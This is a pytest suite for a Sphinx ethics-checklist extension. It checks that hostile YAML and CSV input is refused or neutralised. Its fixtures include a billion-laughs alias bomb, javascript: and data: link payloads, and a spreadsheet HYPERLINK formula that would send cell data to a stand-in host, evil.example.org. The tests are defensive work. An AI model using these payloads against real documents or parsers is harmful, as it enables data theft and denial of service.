"""Hostile input: checklist files, answers files and CSV export.

Checklist and answers files come from teams, forms and surveys, so nothing
in them may hang a build, eat the machine's memory, vanish silently, or
turn into a link or a spreadsheet formula that runs.

This suite never changes the machine: FIFOs are made only inside
``tmp_path``, no device node is ever a target, and anything that could
block or blow up on a regression runs in a subprocess with a timeout (and
a memory limit), so a regression fails the test instead of hanging it.
"""

from __future__ import annotations

import csv
import io
import os
import pickle
import subprocess
import sys
import textwrap
import time
from dataclasses import FrozenInstanceError
from pathlib import Path

import pytest
from helpers import no_crash, sphinx_build, strip_ansi

from sphinx_ethics.answers.file import read_answers
from sphinx_ethics.catalogue import load_catalog, validate_file
from sphinx_ethics.catalogue.yaml_reading import MAX_BYTES
from sphinx_ethics.outputs import blank as export

#: Seconds a refusal may take in a subprocess (Python start-up included).
TIMEOUT = 30
#: Address-space limit of those subprocesses: a regression fails, not the machine.
MEMORY_LIMIT = 1 << 30

needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")

BILLION_LAUGHS = textwrap.dedent(
    """\
    schema_version: 1
    a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
    b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
    c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
    d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
    e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
    f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
    g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
    h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
    i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
    checklists: *i
    """
)

TEAM = textwrap.dedent(
    """\
    schema_version: 1
    source:
      title: Team questions
    checklists:
      - id: team
        title: Team
        questions:
          - number: 1
            text: Who is on the team?
    """
)


def _limit_memory() -> None:  # pragma: no cover - runs in the child
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def run(args: list[str], cwd: Path) -> tuple[subprocess.CompletedProcess[str], float]:
    """A command in a subprocess, with a timeout and a memory limit; and its time."""
    env = {**os.environ, "NO_COLOR": "1", "PYTHONIOENCODING": "utf-8"}
    limit = _limit_memory if sys.platform.startswith("linux") else None
    start = time.perf_counter()
    result = subprocess.run(
        [sys.executable, *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=env,
        timeout=TIMEOUT,
        preexec_fn=limit,
        check=False,
    )
    return result, time.perf_counter() - start


def cli(*args: str | Path, cwd: Path) -> tuple[subprocess.CompletedProcess[str], float]:
    return run(["-m", "sphinx_ethics", *map(str, args)], cwd)


def python(code: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """``code`` in a child Python, which prints its result on stdout."""
    return run(["-c", textwrap.dedent(code)], cwd)[0]


def write(path: Path, text: str) -> Path:
    path.write_text(text, "utf-8")
    return path


def messages(path: Path) -> list[str]:
    return [str(p) for p in validate_file(path)]


# --------------------------------------------------------------------------
# Not a regular file: refused without blocking
# --------------------------------------------------------------------------


@needs_fifo
def test_fifo_checklist_file_is_refused_without_blocking(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.yaml")
    result = python(
        """
        from sphinx_ethics.catalogue import validate_file
        for problem in validate_file("pipe.yaml"):
            print(problem)
        """,
        tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert "pipe.yaml:1: file is a FIFO (named pipe), not a regular file" in result.stdout


@needs_fifo
def test_fifo_answers_file_is_refused_without_blocking(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "answers.yaml")
    result = python(
        """
        from pathlib import Path
        from sphinx_ethics.answers.file import read_answers
        answers, problems = read_answers(Path("answers.yaml"), "answers.yaml")
        for problem in problems:
            print(problem.subtype, problem.location, problem.message)
        print(len(answers), "answers")
        """,
        tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert "answers-file answers.yaml:1 answers file answers.yaml is a FIFO" in result.stdout
    assert "0 answers" in result.stdout


@needs_fifo
def test_fifo_in_ethics_checklists_does_not_hang_the_build(tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    os.mkfifo(src / "pipe.yaml")
    write(src / "conf.py", 'extensions = ["sphinx_ethics"]\nethics_checklists = ["pipe.yaml"]\n')
    write(src / "index.rst", "T\n=\n\n.. ethics-checklist:: plan\n")
    result = sphinx_build("-b", "html", src, tmp_path / "out", timeout=120)
    no_crash(result)
    warnings = [line for line in strip_ansi(result.stderr).splitlines() if "WARNING" in line]
    assert any("pipe.yaml:1" in w and "FIFO" in w and "[ethics.checklist]" in w for w in warnings)


def test_directory_as_checklist_or_answers_file_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "folder.yaml"
    folder.mkdir()
    refused = "is a directory, not a regular file; refusing to read it"
    assert messages(folder) == [f"{folder}:1: file {refused}"]
    answers, problems = read_answers(folder, "folder.yaml")
    assert answers == []
    assert [p.message for p in problems] == [f"answers file folder.yaml {refused}"]


def test_file_over_the_size_limit_is_refused(tmp_path: Path) -> None:
    big = tmp_path / "big.yaml"
    padding = ("# " + "x" * 98 + "\n") * (MAX_BYTES // 100 + 1)
    write(big, TEAM + padding)
    assert big.stat().st_size > MAX_BYTES
    [problem] = messages(big)
    assert problem.startswith(f"{big}:1: file is too large (")
    answers, problems = read_answers(big, "big.yaml")
    assert answers == [] and "is too large" in problems[0].message


# --------------------------------------------------------------------------
# Alias bombs, cycles and deep nesting
# --------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["validate", "list"])
def test_alias_bomb_is_rejected_fast(tmp_path: Path, command: str) -> None:
    bomb = write(tmp_path / "bomb.yaml", BILLION_LAUGHS)
    assert bomb.stat().st_size < 1024
    args = ["validate", bomb] if command == "validate" else ["list", "--checklists", bomb]
    result, seconds = cli(*args, cwd=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode == (1 if command == "validate" else 2), output
    assert "bomb.yaml:6: aliases expand to more than 10,000 values (at alias *d)" in output
    assert "Traceback" not in output
    assert seconds < 10  # Python start-up included; the refusal itself is milliseconds


def test_alias_bomb_in_an_answers_file_is_an_answers_file_problem(tmp_path: Path) -> None:
    bomb = write(tmp_path / "answers.yaml", BILLION_LAUGHS.replace("checklists", "plan-1"))
    result = python(
        """
        import time
        from pathlib import Path
        from sphinx_ethics.answers.file import read_answers
        start = time.perf_counter()
        answers, problems = read_answers(Path("answers.yaml"), "answers.yaml")
        print(f"{time.perf_counter() - start:.3f}")
        for problem in problems:
            print(problem.subtype, problem.location, problem.message)
        """,
        tmp_path,
    )
    assert result.returncode == 0, result.stderr
    seconds, *lines = result.stdout.splitlines()
    assert float(seconds) < 1
    assert lines == [
        "answers-file answers.yaml:6 aliases expand to more than 10,000 values "
        "(at alias *d); write the values out instead"
    ]
    assert bomb.exists()


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("schema_version: 1\nchecklists: &a [*a]\n", 2, "alias *a is inside its own anchor"),
        ("schema_version: 1\ntips: " + "[" * 200 + "]" * 200 + "\n", 2, "nested more than 64"),
    ],
    ids=["cycle", "deep"],
)
def test_alias_cycles_and_deep_nesting_are_problems(
    tmp_path: Path, text: str, line: int, message: str
) -> None:
    write(tmp_path / "bad.yaml", text)
    result, _ = cli("validate", "bad.yaml", cwd=tmp_path)
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"bad.yaml:{line}: {message}" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr


def test_aliases_within_the_budget_still_work(tmp_path: Path) -> None:
    path = write(
        tmp_path / "team.yaml",
        TEAM + "  - id: team-b\n    title: &t Team B\n    questions:\n"
        "      - number: 1\n        text: *t\n",
    )
    assert messages(path) == []
    assert load_catalog([path]).questions["team-b-1"].text == "Team B"


# --------------------------------------------------------------------------
# Keys given twice
# --------------------------------------------------------------------------


def test_duplicate_top_level_key_is_a_problem_with_both_lines(tmp_path: Path) -> None:
    path = write(
        tmp_path / "twice.yaml",
        TEAM
        + textwrap.dedent(
            """\
            checklists:
              - id: other
                title: Other
                questions:
                  - number: 1
                    text: Anything else?
            """
        ),
    )
    assert messages(path) == [f"{path}:10: key 'checklists' appears twice (first at line 4)"]
    result, _ = cli("validate", path, cwd=tmp_path)
    assert result.returncode == 1 and "invalid (1 problem)" in result.stdout


def test_duplicate_nested_key_is_a_problem(tmp_path: Path) -> None:
    path = write(tmp_path / "t.yaml", TEAM + "        text: Who else?\n")
    assert messages(path) == [f"{path}:10: key 'text' appears twice (first at line 9)"]


def test_question_id_twice_in_an_answers_file(tmp_path: Path) -> None:
    path = write(tmp_path / "a.yaml", "plan-1: First.\nplan-3: Other.\nplan-1: Second.\n")
    answers, problems = read_answers(path, "a.yaml")
    assert [(p.subtype, p.location, p.message) for p in problems] == [
        (
            "answers-file",
            "a.yaml:3",
            "key 'plan-1' appears twice (first at line 1) in answers file a.yaml",
        )
    ]
    # both are still read: an empty first answer never hides the second
    assert [(a.question_id, a.text) for a in answers] == [
        ("plan-1", "First."),
        ("plan-3", "Other."),
        ("plan-1", "Second."),
    ]


# --------------------------------------------------------------------------
# Wrong types, links, ids
# --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "line", "message"),
    [
        ("extends: 5\n", 2, "extends: 5 is not of type 'array'"),
        ("checklists: true\n", 2, "checklists: True is not of type 'array'"),
        ("tips: {a: 1}\n", 2, "tips: {'a': 1} is not of type 'array'"),
        ("definitions: text\n", 2, "definitions: 'text' is not of type 'array'"),
        ("checklists: [5]\n", 2, "checklists[0]: 5 is not of type 'object'"),
        ("extends: [{checklist: plan, questions: 3}]\n", 2, "is not of type 'array'"),
        (
            "checklists: [{id: t, title: T, questions: [{number: 1, text: Q}], migrations: 4}]\n",
            2,
            "migrations: 4 is not of type 'array'",
        ),
        (
            "checklists: [{id: t, title: T, questions: [{number: 1, text: Q}],\n"
            "  migrations: [{from: 1, to: 2, split: {t-1: t-2}, retired: 7}]}]\n",
            3,
            "is not of type 'array'",
        ),
    ],
)
def test_wrong_types_are_problems_not_tracebacks(
    tmp_path: Path, body: str, line: int, message: str
) -> None:
    path = write(tmp_path / "typed.yaml", "schema_version: 1\n" + body)
    problems = messages(path)
    assert any(p.startswith(f"{path}:{line}: ") and message in p for p in problems), problems
    result, _ = cli("validate", "typed.yaml", cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert "typed.yaml: invalid" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr
    assert "unexpected" not in result.stderr


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("url", "javascript:alert(1)"),
        ("url", "JavaScript:alert(1)"),
        ("url", "data:text/html,<script>alert(1)</script>"),
        ("url", "/relative/page.html"),
        ("url", "//evil.example.org/"),
        ("url", "https://"),
        ("url", "https://example.org/\\njavascript:alert(1)"),
        ("licence_url", "vbscript:msgbox"),
        ("licence_url", "https://example.org/ with space"),
        ("doi", "javascript:alert(1)"),
    ],
)
def test_links_must_be_http_or_mailto(tmp_path: Path, key: str, value: str) -> None:
    text = TEAM.replace("  title: Team questions\n", f'  title: T\n  {key}: "{value}"\n')
    path = write(tmp_path / "links.yaml", text)
    problems = messages(path)
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"{path}:4: source.{key}: ")
    result, _ = cli("validate", "links.yaml", cwd=tmp_path)
    assert result.returncode == 1 and "links.yaml: invalid" in result.stdout


def test_trailing_newline_in_a_link_is_caught_by_the_python_check(tmp_path: Path) -> None:
    # the schema's pattern lets "...$" match before a final newline
    text = TEAM.replace("  title: Team questions\n", '  title: T\n  url: "https://ok.org/\\n"\n')
    path = write(tmp_path / "links.yaml", text)
    assert messages(path) == [
        f"{path}:4: source.url: 'https://ok.org/\\n' is not allowed: "
        "links must be http://, https:// or mailto: addresses"
    ]


@pytest.mark.parametrize(
    "value",
    ["https://example.org", "http://example.org/a?b=c#d", "mailto:qi@example.org", ""],
)
def test_good_links_are_accepted(tmp_path: Path, value: str) -> None:
    text = TEAM.replace("  title: Team questions\n", f'  title: T\n  url: "{value}"\n')
    assert messages(write(tmp_path / "ok.yaml", text)) == []


@pytest.mark.parametrize(
    ("old", "new", "line", "where"),
    [
        ("  - id: team\n", '  - id: "team\\n"\n', 5, "checklists[0].id"),
        ("", 'tips:\n  - {id: "tip-x\\n", title: T, text: T}\n', 11, "tips[0].id"),
        ("", 'definitions:\n  - {id: "d\\n", term: T, text: [T]}\n', 11, "definitions[0].id"),
        (
            "",
            'extends:\n  - checklist: "plan\\n"\n    questions: [{number: 9, text: Q}]\n',
            11,
            "extends[0].checklist",
        ),
    ],
)
def test_ids_with_a_trailing_newline_are_refused(
    tmp_path: Path, old: str, new: str, line: int, where: str
) -> None:
    text = TEAM.replace(old, new) if old else TEAM + new
    path = write(tmp_path / "ids.yaml", text)
    problems = messages(path)
    start = f"{path}:{line}: {where}: "
    assert any(p.startswith(start) and "not a valid id" in p for p in problems), problems


def test_subquestion_letter_with_a_trailing_newline_is_refused(tmp_path: Path) -> None:
    text = TEAM + '        subquestions:\n          - {letter: "a\\n", text: Sub}\n'
    path = write(tmp_path / "letter.yaml", text)
    assert messages(path) == [
        f"{path}:11: checklists[0].questions[0].subquestions[0].letter: 'a\\n' "
        "is not one lower-case letter"
    ]


def test_checklist_id_that_is_a_question_id_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "steal.yaml", TEAM.replace("id: team", "id: plan-1"))
    assert messages(path) == [
        f"{path}:5: checklist id 'plan-1' is already used by question 'plan-1' of "
        "checklist 'plan' (this-values-and-ethics.yaml)"
    ]


def test_question_id_that_is_a_tip_or_checklist_id_is_refused(tmp_path: Path) -> None:
    tip = write(tmp_path / "tip.yaml", TEAM + "tips:\n  - {id: team-1, title: T, text: T}\n")
    assert messages(tip) == [
        f"{tip}:11: tip id 'team-1' is already used by question 'team-1' ({tip}, line 8)"
    ]
    first = write(tmp_path / "first.yaml", TEAM.replace("id: team", "id: plan-9"))
    extend = write(
        tmp_path / "extend.yaml",
        "schema_version: 1\nextends:\n  - checklist: plan\n    questions:\n"
        "      - {number: 9, text: Added}\n",
    )
    assert validate_file(first) == []
    assert [str(p) for p in validate_file(extend, [first])] == [
        f"{extend}:5: question id 'plan-9' is already used by checklist 'plan-9' ({first})"
    ]


# --------------------------------------------------------------------------
# The shared catalogue cannot be changed
# --------------------------------------------------------------------------


def test_catalog_is_read_only() -> None:
    catalog = load_catalog()
    with pytest.raises(TypeError):
        catalog.checklists["plan"] = catalog.checklists["healthcare-good"]  # type: ignore[index]
    with pytest.raises(TypeError):
        del catalog.questions["plan-1"]  # type: ignore[attr-defined]
    with pytest.raises(FrozenInstanceError):
        catalog.tips = {}  # type: ignore[misc]
    assert not hasattr(catalog, "files")
    assert load_catalog() is catalog
    assert next(iter(catalog.checklists)) == "plan"
    assert catalog.checklist_of("plan-2a") is catalog.checklists["plan"]


def test_catalog_pickles() -> None:
    catalog = load_catalog()
    copy = pickle.loads(pickle.dumps(catalog))
    assert list(copy.checklists) == list(catalog.checklists)
    assert copy.questions["plan-2a"] == catalog.questions["plan-2a"]
    with pytest.raises(TypeError):
        copy.tips["x"] = None  # type: ignore[index]


# --------------------------------------------------------------------------
# CSV export: no formulas
# --------------------------------------------------------------------------

FORMULAS = textwrap.dedent(
    """\
    schema_version: 1
    source:
      title: "@SUM(1+1)"
    checklists:
      - id: sheet
        title: Sheet
        questions:
          - number: 1
            text: '=HYPERLINK("https://evil.example.org/?d="&A1, "Click")'
            prompts: ["+1+1", "-2", "\\tTabbed", "\\rReturn", "Plain = fine"]
    """
)


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    path = write(tmp_path / "sheet.yaml", FORMULAS)
    catalog = load_catalog([path])
    text = export.to_csv(catalog, [catalog.checklists["sheet"]])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["question"] == '\'=HYPERLINK("https://evil.example.org/?d="&A1, "Click")'
    assert row["prompts"] == "'+1+1\n-2\n\tTabbed\n\rReturn\nPlain = fine"
    # The attribution cell starts with "Source: ", never with the title's "@".
    assert row["source"] == "Source: @SUM(1+1)."
    assert row["id"] == "sheet-1"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_export_from_the_cli_neutralises_formulas(tmp_path: Path) -> None:
    write(tmp_path / "sheet.yaml", FORMULAS)
    args = ("export", "--checklists", "sheet.yaml", "--format", "csv", "sheet")
    result, _ = cli(*args, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "'=HYPERLINK(" in result.stdout
    assert ',"=HYPERLINK' not in result.stdout and ",=HYPERLINK" not in result.stdout


def test_csv_cell() -> None:
    assert export.csv_cell("=1+1") == "'=1+1"
    assert export.csv_cell("-") == "'-"
    assert export.csv_cell("Who? = them") == "Who? = them"
    assert export.csv_cell("") == ""
